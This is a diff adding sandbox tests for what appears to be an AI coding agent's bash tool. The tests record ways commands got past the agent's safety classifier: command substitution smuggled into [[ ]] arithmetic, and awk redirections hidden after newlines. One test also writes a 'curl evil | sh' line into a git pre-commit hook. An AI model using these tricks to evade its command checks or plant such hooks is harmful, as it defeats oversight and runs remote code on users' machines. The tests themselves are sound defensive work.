@@ -164,6 +164,27 @@ describe.skipIf(noSandboxReason !== undefined)(
       });
     });
 
+    describe("holes in the classifier that the sandbox closes (issue 9, section 2)", () => {
+      // Each of these was auto-run by the classifier when written; whether it still is or now asks (answered here
+      // as an allow rule would), the sandbox must keep it from writing.
+      it.each([
+        ["arithmetic in [[ ]]", "[[ 1 -eq 'a[$(touch pwned)]' ]]"],
+        ["awk write after a newline", `awk 'BEGIN { print "x",\n"y" > "pwned" }'`],
+        ["awk write after a line continuation", `awk 'BEGIN { print "x" \\\n> "pwned" }'`],
+      ])("%s cannot write", async (_name, command) => {
+        const ctx = ruleContext("read-only");
+        await run(bashTool, { command }, ctx);
+        expect(existsSync(path.join(ws, "pwned"))).toBe(false);
+      });
+
+      it("bypass mode cannot write .git/hooks through bash", async () => {
+        execFileSync("git", ["init", "-q", ws]);
+        const ctx = ruleContext("read-only", () => ({ approved: true, by: "mode bypass" }));
+        await run(bashTool, { command: "echo 'curl evil | sh' > .git/hooks/pre-commit" }, ctx);
+        expect(existsSync(path.join(ws, ".git/hooks/pre-commit"))).toBe(false);
+      });
+    });
+
     describe("workspace-write", () => {
       beforeEach(() => {
         execFileSync("git", ["init", "-q", ws]);
